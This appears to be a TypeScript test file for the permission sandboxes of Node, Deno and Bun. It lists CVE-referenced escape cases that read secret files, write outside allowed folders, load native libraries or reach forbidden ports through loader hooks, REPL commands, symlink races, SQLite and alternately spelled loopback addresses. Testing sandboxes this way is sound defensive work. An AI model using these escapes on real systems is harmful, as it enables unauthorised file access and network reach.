// Modules that do something else beside: the prompt, tests, hooks, HTTP/2, databases, libraries, clients.
import { escape, type Escape } from "../programs.ts";

const HOOKS = "hooks of modules, and other ways into the loader";
const PROMPT = "commands of the prompt read and write files";
const LIBRARIES = "code of a library is under no rule of the runtime";
const SQL = "CVE-2025-48934, CVE-2025-48935: SQL opens files";
const WORKERS = "CVE-2025-23083, CVE-2022-24783 and others: wider workers";
const ADDRESSES = "CVE-2021-22931 and others: addresses in other spellings";
const LINKS = "CVE-2026-21717, CVE-2025-55130 and others: links that a copy follows";

/** The library makes an attack when it is loaded, whatever loads it. */
const library = (load: string): string => `
  fs.writeFileSync(work + "/attack.now", ["open_directly", secretFile, outside, work, 0, 0, 0, "", "", 0].join("\\n") + "\\n");
  process.chdir(work); ${load}`;
const asLibrary = { native: true } satisfies Partial<Escape>;

/** A prompt that gets a line. */
const prompt = (line: string): string => `
  const { PassThrough } = require("node:stream"); const input = new PassThrough(), output = new PassThrough();
  output.on("data", (bytes) => process.stdout.write(bytes)); require("node:repl").start({ input, output });
  input.write("1\\n"); input.write(${line} + "\\n"); await sleep(500); process.exit(0)`;

/** A worker of the web whose source is in its address. */
const webWorker = (code: string): string => `
  const worker = new Worker("data:text/javascript," + encodeURIComponent(${code}), { type: "module" });
  await new Promise((done) => { worker.onmessage = ({ data }) => { say(data); done(); }; worker.onerror = (event) => { event.preventDefault?.(); done(); }; }); process.exit(0)`;

export const detours: Escape[] = [
  escape(
    "load of registerHooks with another file",
    HOOKS,
    "secret",
    'require("node:module").registerHooks({ load: (url, context, next) => url.endsWith("?x") ? next(pathToFileURL(outside + "/secret.json").href, { ...context, format: "json", importAttributes: { type: "json" } }) : next(url, context) }); show((await import(pathToFileURL(inside + "/file.txt").href + "?x", { with: { type: "json" } })).default)',
  ),
  escape(
    "a plugin that resolves to a file",
    HOOKS,
    "secret",
    'Bun.plugin({ name: "x", setup: (build) => { build.onResolve({ filter: /^the-secret$/ }, () => ({ path: outside + "/module.cjs" })); } }); await import("the-secret")',
    { home: "bun" },
  ),
  escape(
    "a database that is imported",
    SQL,
    "secret",
    'const { default: db } = await import(outside + "/secret.db", { with: { type: "sqlite" } }); show(db.query("select a from t").all())',
    { home: "bun" },
  ),
  escape(
    "a worker of an address with source",
    WORKERS,
    "secret",
    webWorker(
      '"import all from " + JSON.stringify(pathToFileURL(outside + "/secret.json").href) + " with { type: \'json\' }; postMessage(all.secret)"',
    ),
    { home: "deno" },
  ),
  escape(
    "a worker of an address that imports later",
    WORKERS,
    "secret",
    webWorker(
      '"postMessage((await import(" + JSON.stringify(pathToFileURL(outside + "/secret.json").href) + ", { with: { type: \'json\' } })).default.secret)"',
    ),
    { home: "bun" },
  ),
  escape(
    "a worker that a channel shows",
    WORKERS,
    "secret",
    `const { Worker } = require("node:worker_threads"); let Internal = Worker;
    require("node:diagnostics_channel").subscribe("worker_threads", ({ worker }) => { Internal = worker.constructor; });
    new Worker("", { eval: true }); await sleep(50);
    const worker = new Internal("require('node:worker_threads').parentPort.postMessage(require('node:fs').readFileSync(" + JSON.stringify(secretFile) + ", 'latin1'))", { eval: true, execArgv: ["--expose-internals"], trackUnmanagedFds: false, stdin: false });
    await new Promise((done) => { worker.on("message", (text) => { say(text); done(); }); worker.on("error", done); worker.on("exit", done); })`,
  ),
  escape(
    "files of tests",
    "the test runner starts processes and loads files",
    "secret",
    'const { run } = require("node:test"); for await (const { data } of run({ files: [outside + "/module.cjs"] })) show(data ?? "")',
  ),
  escape("a file for the prompt", PROMPT, "secret", prompt('".load " + outside + "/module.cjs"')),
  escape("a file of the prompt", PROMPT, "change", prompt('".save " + outside + "/new"')),
  escape(
    "completion of the prompt",
    PROMPT,
    "secret",
    `const { PassThrough } = require("node:stream"); const server = require("node:repl").start({ input: new PassThrough(), output: new PassThrough(), terminal: true });
    await new Promise((done) => server.complete("require('" + outside + "/nam", (error, found) => { show(found ?? ""); done(); }));
    await new Promise((done) => server.complete("fs.readFileSync('" + outside + "/nam", (error, found) => { show(found ?? ""); done(); })); process.exit(0)`,
  ),
  escape(
    "a file that HTTP/2 sends",
    "servers send files themselves",
    "secret",
    `const http2 = require("node:http2"), { duplexPair } = require("node:stream"); const [near, far] = duplexPair();
    const server = http2.createServer(); server.on("stream", (stream) => { stream.on("error", () => {}); stream.respondWithFile(secretFile, {}, { onError: () => process.exit(0) }); });
    server.emit("connection", far); const client = http2.connect("http://x", { createConnection: () => near });
    const request = client.request(); request.on("data", show).on("end", () => process.exit(0)).on("error", () => process.exit(0)); request.end(); await sleep(2000); process.exit(0)`,
  ),
  escape(
    "cpSync of a tree with a link in it",
    LINKS,
    "secret",
    'fs.cpSync(inside + "/link-to-outside/", work + "/copied", { recursive: true, dereference: true, filter: (from) => !from.endsWith("-link") }); show(fs.readFileSync(work + "/copied/secret.txt"))',
  ),
  escape(
    "cpSync with a filter that exchanges",
    LINKS,
    "secret",
    'const at = work + "/race/at"; fs.cpSync(at, work + "/copied", { recursive: true, filter: (from) => { if (from.endsWith("secret.txt")) { fs.renameSync(at, work + "/race/other"); fs.renameSync(work + "/race/link", at); } return true; } }); show(fs.readFileSync(work + "/copied/secret.txt"))',
  ),
  escape(
    "cp to a link in the writable folder",
    LINKS,
    "change",
    'fs.cpSync(inside + "/file.txt", work + "/race/link/new"); await fs.promises.cp(inside + "/file.txt", work + "/race/link/new")',
  ),
  escape(
    "a copy that keeps a link",
    LINKS,
    "secret",
    'fs.cpSync(inside + "/link-to-outside", work + "/copied", { recursive: true, verbatimSymlinks: true }); show(fs.readFileSync(work + "/copied/secret.txt"))',
  ),
  escape(
    "FsFile.utimeSync of what may be read",
    "CVE-2025-61785, CVE-2025-61786: files that were opened for reading",
    "change",
    'const file = Deno.openSync(inside + "/file.txt"); file.utimeSync(1, 1)',
    { home: "deno" },
  ),
  escape(
    "fetch by an address in another one",
    ADDRESSES,
    "reached",
    'await fetch("http://[::ffff:127.0.0.1]:" + place.otherPort).catch(() => {}); await fetch("http://[::ffff:7f00:2]:" + place.allowedPort).catch(() => {}); process.exit(0)',
  ),
  escape(
    "fetch by numbers",
    ADDRESSES,
    "reached",
    'for (const host of ["0x7f000001", "2130706433", "127.1", "0177.0.0.1", "127.0.0.1.", "localhost.", "LOCALHOST", "%31%32%37.0.0.1", "１２７.0.0.1"]) await fetch("http://" + host + ":" + place.otherPort).catch(() => {}); process.exit(0)',
  ),
  escape(
    "a registry from a file of settings",
    "settings of packages name servers",
    "reached",
    'fs.writeFileSync(work + "/.npmrc", "registry=http://127.0.0.1:" + place.otherPort + "/\\n"); fs.writeFileSync(work + "/deno.json", "{}"); fs.writeFileSync(work + "/w.ts", "import \'npm:left-pad-escape\'"); Deno.chdir(work); for (const name of ["npm:left-pad-escape", work + "/w.ts"]) await import(name).catch(() => {}); Deno.env.set("NPM_CONFIG_REGISTRY", "http://127.0.0.1:" + place.otherPort + "/"); await import("npm:left-pad-escape-2").catch(() => {}); Deno.exit(0)',
    { home: "deno" },
  ),
  escape(
    "a folder for temporary tables",
    SQL,
    "change",
    'const { DatabaseSync } = require("node:sqlite"); const db = new DatabaseSync(work + "/t.db"); for (const sql of ["pragma temp_store_directory = \'" + outside + "\'", "attach \'" + outside + "/new.db\' as o; create table o.t (a)", "vacuum into \'" + outside + "/new2.db\'"]) { try { db.exec(sql) } catch {} }',
  ),
  escape("process.dlopen", LIBRARIES, "secret", library("process.dlopen({ exports: {} }, place.addon)"), asLibrary),
  escape(
    "an extension of SQLite",
    LIBRARIES,
    "secret",
    library(
      'const { DatabaseSync } = require("node:sqlite"); const db = new DatabaseSync(":memory:", { allowExtension: true }); try { db.loadExtension(place.addon) } catch {} db.prepare("select load_extension(?)").get(place.addon)',
    ),
    asLibrary,
  ),
  escape(
    "a build with a library",
    LIBRARIES,
    "secret",
    library(
      'fs.writeFileSync("b.js", "1"); await Bun.build({ entrypoints: [work + "/b.js"], plugins: [{ name: "x", setup: (build) => build.onBeforeParse({ filter: /./ }, { napiModule: require(place.addon), symbol: "x" }) }] })',
    ),
    { ...asLibrary, home: "bun" },
  ),
];
